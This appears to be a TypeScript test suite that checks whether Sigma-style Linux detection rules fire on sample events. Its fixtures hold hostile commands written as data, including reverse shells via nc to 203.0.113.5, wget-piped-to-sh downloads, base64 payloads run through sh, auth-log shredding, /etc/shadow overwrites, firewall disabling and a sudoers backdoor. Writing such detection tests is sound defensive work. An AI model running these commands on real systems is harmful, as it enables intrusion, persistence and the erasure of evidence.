import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { RuleEvent } from './rule.schema.ts';
import { compileRules, event, run } from './rule-test.fixture.ts';

/**
 * Rules in the style of SigmaHQ's rules/linux (fixtures/), compiled unchanged and run on Edgeward events
 * that should and should not match them: the field and log-source mapping is what makes them fire.
 */

const fixtures = new URL('./fixtures/', import.meta.url);
const files = Object.fromEntries(
  readdirSync(fixtures)
    .filter((name) => name.endsWith('.yml'))
    .map((name) => [`rules/${name}`, readFileSync(new URL(name, fixtures), 'utf8')]),
);
const rules = compileRules(files);
const titleOf = new Map(rules.rules.map((rule) => [rule.id, rule.title]));
const scopeOf = new Map(rules.rules.map((rule) => [rule.id, rule.scope]));

interface Case {
  readonly rule: string;
  readonly matches: readonly RuleEvent[];
  readonly misses: readonly RuleEvent[];
}

const started = (path: string, command: string) =>
  event('host.executable_started', { path, pid: 4242, command });
const sudo = (command: string, user = 'bob') =>
  event('auth.privilege_escalation', {
    user,
    targetUser: 'root',
    command,
    program: 'sudo',
    line: `sudo: ${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
  });
const syslog = (appName: string, message: string) =>
  event('syslog.message', {
    format: '3164',
    appName,
    hostname: 'plc-gw-3',
    message,
    sourceAddress: '10.1.0.7',
  });
const sshd = (line: string) =>
  event('auth.login_failed', {
    user: 'root',
    sourceAddress: '203.0.113.9',
    program: 'sshd',
    method: 'password',
    line,
  });
const file = (type: string, path: string) =>
  event(type, { path, before: null, after: { sha256: 'ab', size: 10 } });
const listener = (process: string, address: string, port = 4444) =>
  event('host.listener_added', { protocol: 'tcp', address, port, process });

const cases: readonly Case[] = [
  {
    rule: '2aa1440c-9ae9-4d92-84a7-a9e5f5e31695',
    matches: [
      syslog('bash', 'cmd: wget http://x - http://203.0.113.5/a | sh'),
      sudo('python -c "import pty; pty.spawn(\'/bin/bash\')"'),
      syslog('cron', 'echo ZWNobw== | base64 -d | sh'),
    ],
    misses: [
      syslog('bash', 'wget https://example.org/file.tar.gz'),
      event('agent.loss_report', { line: 'nc -l -p 4444' }),
    ],
  },
  {
    rule: 'e76b413a-83d0-4b94-8e4c-85db4a5b8bdc',
    matches: [
      sshd('sshd[901]: error: Corrupted MAC on input.'),
      syslog('sshd', 'fatal: buffer_get_string: bad string'),
    ],
    misses: [sshd('sshd[901]: Failed password for root from 203.0.113.9 port 52211 ssh2')],
  },
  {
    rule: '4c9d903d-4939-4094-ade0-3cb748f4d7da',
    matches: [
      syslog('sshd', 'error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]'),
    ],
    misses: [syslog('sshd', 'error: buffer_get_ret: trying to get more bytes 4 than in buffer 0')],
  },
  {
    rule: '0506a799-698b-43b4-85a1-ac4c84c720e9',
    matches: [
      syslog(
        'pkexec',
        'pkexec --version: The value for environment variable XAUTHORITY contains suscipious content [USER=root] [TTY=/dev/pts/0]',
      ),
    ],
    misses: [syslog('pkexec', 'pkexec: bob: Executing command [USER=root] [TTY=/dev/pts/0]')],
  },
  {
    rule: 'f74107df-b6c6-4e80-bf00-4170b658162b',
    matches: [sudo('sudo -u#-1 /bin/bash')],
    misses: [sudo('sudo -u root /bin/bash'), started('/usr/bin/sudo', 'sudo -u#-1 id')],
  },
  {
    rule: 'c8e35e96-19ce-4f16-aeb6-fd5588dc5365',
    matches: [syslog('named', 'client 198.51.100.4#53: denied AXFR from 198.51.100.4')],
    misses: [syslog('named', 'zone example.org/IN: loaded serial 7')],
  },
  {
    rule: '49f5dfc1-f92e-4d34-96fa-feba3f6acf36',
    matches: [syslog('systemd', 'Stopping firewalld - dynamic firewall daemon...')],
    misses: [syslog('systemd', 'Starting firewalld - dynamic firewall daemon...')],
  },
  {
    rule: '7f734ed0-4f47-46c0-837f-6ee62505abd9',
    matches: [
      started('/usr/bin/nc', 'nc -e /bin/sh 203.0.113.5 4444'),
      sudo('/bin/nc -c bash 203.0.113.5 4444'),
    ],
    misses: [
      started('/usr/bin/nc', 'nc -zv 203.0.113.5 22'),
      started('/usr/bin/ncat', 'ncat -e /usr/bin/id 10.0.0.1 9'),
    ],
  },
  {
    rule: 'e2072cab-8c9a-459b-b63c-40ae79e27031',
    matches: [started('/usr/bin/base64', 'base64 -d payload.txt')],
    misses: [started('/usr/bin/base64', 'base64 payload.txt'), started('/usr/bin/cat', 'cat x -d')],
  },
  {
    rule: 'c2e234de-03a3-41e1-b39a-1e56dc17ba67',
    matches: [started('/usr/bin/crontab', 'crontab -r'), sudo('crontab -r -u operator')],
    misses: [started('/usr/bin/crontab', 'crontab -l'), sudo('crontab -l')],
  },
  {
    rule: '80915f59-9b56-4616-9de0-fd0dea6c12fe',
    matches: [started('/usr/bin/shred', 'shred -u /var/log/auth.log'), sudo('/bin/rm -rf /var/log/journal')],
    misses: [started('/usr/bin/rm', 'rm -rf /tmp/build'), started('/usr/bin/less', 'less /var/log/syslog')],
  },
  {
    rule: 'fa4aaed5-4fe0-498d-bbc0-08e3346387ba',
    matches: [started('/usr/bin/cp', 'cp /tmp/shadow /etc/shadow')],
    misses: [
      started('/usr/bin/cp', 'cp /etc/shadow /root/backup/'),
      started('/usr/bin/mv', 'mv /tmp/passwd /etc/passwd'),
    ],
  },
  {
    rule: 'e3a8a052-111f-4606-9aee-f28ebeb76776',
    matches: [
      started('/usr/sbin/service', 'service iptables stop'),
      started('/usr/bin/systemctl', 'systemctl disable firewalld'),
      started('/usr/sbin/setenforce', 'setenforce 0'),
    ],
    misses: [
      started('/usr/sbin/service', 'service iptables start'),
      started('/usr/bin/systemctl', 'systemctl stop nginx'),
    ],
  },
  {
    rule: 'cf610c15-ed71-46e1-bdf8-2bd1a99de6c4',
    matches: [
      started('/usr/bin/wget', 'wget -O /tmp/x http://203.0.113.5/x'),
      started('/usr/bin/wget', 'wget --output-document=/tmp/x http://203.0.113.5/x'),
    ],
    misses: [
      started('/usr/bin/wget', 'wget -o /tmp/log http://203.0.113.5/x'),
      started('/usr/bin/wget', 'wget -O /opt/x http://203.0.113.5/x'),
    ],
  },
  {
    rule: 'c21c4eaa-ba2e-419a-92b2-8371703cbe21',
    matches: [started('/bin/sh', 'sh -c chown root /tmp/x; chmod u+s /tmp/x')],
    misses: [started('/bin/sh', 'sh -c chmod u+s /tmp/x')],
  },
  {
    rule: 'fe2f9663-41cb-47e2-b954-8a228f3b9dff',
    matches: [
      started('/bin/sh', `sh -c echo ${Buffer.from('#!/bin/bash\nid').toString('base64')} | base64 -d`),
    ],
    misses: [started('/bin/sh', `sh -c echo ${Buffer.from('hello').toString('base64')} | base64 -d`)],
  },
  {
    rule: '6c4e2f43-d94d-4ead-b64d-97e53fa2bd05',
    matches: [file('fim.created', '/etc/cron.d/updater'), file('fim.modified', '/etc/crontab')],
    misses: [file('fim.created', '/etc/cron.daily.bak'), file('fim.baseline', '/etc/cron.d/updater')],
  },
  {
    rule: 'ddb26b76-4447-4807-871f-1b035b2bfa5d',
    matches: [file('fim.created', '/etc/sudoers.d/99-backdoor')],
    misses: [file('fim.created', '/etc/sudoers'), started('/etc/sudoers.d/x', 'x')],
  },
  {
    rule: '13f08f54-e705-4498-91fd-cce9d9cee9f1',
    matches: [file('fim.created', '/etc/profile.d/zz-proxy.sh')],
    misses: [file('fim.created', '/etc/profile.d/README'), file('fim.created', '/etc/profile')],
  },
  {
    rule: '00eee2a5-fdb0-4746-a21d-e43fbdea5681',
    matches: [file('fim.created', '/etc/doas.conf')],
    misses: [file('fim.created', '/etc/doas.conf.bak')],
  },
  {
    rule: '1a2ad0c4-3d52-4a6c-9c05-2f7ab1e0d3c1',
    matches: [listener('nc', '0.0.0.0'), listener('/usr/bin/socat', '::'), listener('ncat', '10.0.0.5')],
    misses: [
      listener('nc', '127.0.0.1'),
      listener('nc', '::1'),
      listener('rsync', '0.0.0.0'),
      listener('sshd', '0.0.0.0', 22),
    ],
  },
  {
    rule: '08f26069-6f80-474b-8d1f-d971c6fedea0',
    matches: [started('/usr/sbin/userdel', 'userdel -r operator'), sudo('/usr/sbin/userdel operator')],
    misses: [started('/usr/sbin/useradd', 'useradd operator')],
  },
];

describe('public-style Sigma Linux rules', () => {
  it('compile unchanged, at least fifteen of them', () => {
    assert.ok(rules.rules.length >= 15);
    const tested = new Set(cases.map((each) => each.rule));
    const detections = rules.rules.filter((rule) => rule.kind === 'detection' && rule.emits);
    assert.deepEqual(
      detections.filter((rule) => !tested.has(rule.id)).map((rule) => rule.title),
      [],
      'every detection rule has cases',
    );
  });

  for (const { rule, matches, misses } of cases) {
    it(`${titleOf.get(rule) ?? rule}: matches what it should and nothing else`, () => {
      // Rules over syslog alone run where syslog arrives: on the hub.
      const options = { scope: scopeOf.get(rule) ?? 'agent' };
      for (const sample of matches) {
        const fired = run(rules, [sample], options).map((signal) => signal.ruleId);
        assert.ok(fired.includes(rule), `expected a match for ${JSON.stringify(sample.data)}`);
      }
      for (const sample of misses) {
        const fired = run(rules, [sample], options).map((signal) => signal.ruleId);
        assert.ok(
          !fired.includes(rule),
          `expected no match for ${sample.type} ${JSON.stringify(sample.data)}`,
        );
      }
    });
  }

  it('correlate failed logins followed by a success of the same user (the specification example)', () => {
    const login = (type: string, time: number, user: string) =>
      event(type, { user, sourceAddress: '203.0.113.9', program: 'sshd' }, { time });
    const failures = [0, 1, 2].map((minute) => login('auth.login_failed', minute * 60_000, 'root'));
    const hub = { scope: 'hub' as const };
    assert.deepEqual(
      run(rules, [...failures, login('auth.login_succeeded', 5 * 60_000, 'root')], hub)
        .filter((signal) => signal.kind === 'correlation')
        .map((signal) => [signal.ruleId, signal.groupFields]),
      [['b180ead8-d58f-40b2-ae54-c8940995b9b6', { User: 'root' }]],
    );
    assert.deepEqual(
      run(rules, [...failures, login('auth.login_succeeded', 5 * 60_000, 'alice')], hub).filter(
        (signal) => signal.kind === 'correlation',
      ),
      [],
    );
  });
});
